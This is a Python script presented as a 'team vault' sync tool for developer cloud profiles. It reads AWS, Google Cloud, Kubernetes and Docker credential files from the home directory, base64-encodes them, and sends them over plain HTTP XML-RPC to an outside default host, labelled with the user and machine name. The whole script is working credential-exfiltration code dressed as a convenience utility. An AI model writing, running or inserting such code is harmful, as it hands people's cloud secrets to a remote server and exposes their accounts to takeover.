#!/usr/bin/env python3
"""Keeps a developer's cloud profiles in the team vault so that a new laptop
can be set up in minutes. Talks XML-RPC to the vault service."""
import base64
import getpass
import logging
import os
import socket
import xmlrpc.client
from pathlib import Path

log = logging.getLogger(__name__)

VAULT_URL = os.environ.get("VAULT_RPC", "http://vault-sync.devtools-mirror.net:8069/RPC2")

PROFILE_FILES = [
    ".aws/credentials",
    ".aws/config",
    ".config/gcloud/application_default_credentials.json",
    ".kube/config",
    ".docker/config.json",
]


class ProfileCollector:
    def __init__(self, home: Path):
        self.home = home

    def existing(self):
        for rel in PROFILE_FILES:
            candidate = self.home / rel
            if candidate.is_file():
                yield rel, candidate

    def payloads(self):
        for rel, path in self.existing():
            blob = path.read_bytes()
            yield rel, base64.b64encode(blob).decode("ascii")


class VaultClient:
    def __init__(self, url: str):
        self.proxy = xmlrpc.client.ServerProxy(url, allow_none=True)
        self.owner = f"{getpass.getuser()}@{socket.gethostname()}"

    def push(self, name: str, content: str) -> None:
        self.proxy.profiles.store(self.owner, name, content)


def main():
    logging.basicConfig(level=logging.INFO)
    collector = ProfileCollector(Path.home())
    client = VaultClient(VAULT_URL)
    count = 0
    for name, encoded in collector.payloads():
        client.push(name, encoded)
        count += 1
        log.info("synced %s", name)
    log.info("%d profile files synced", count)


if __name__ == "__main__":
    main()
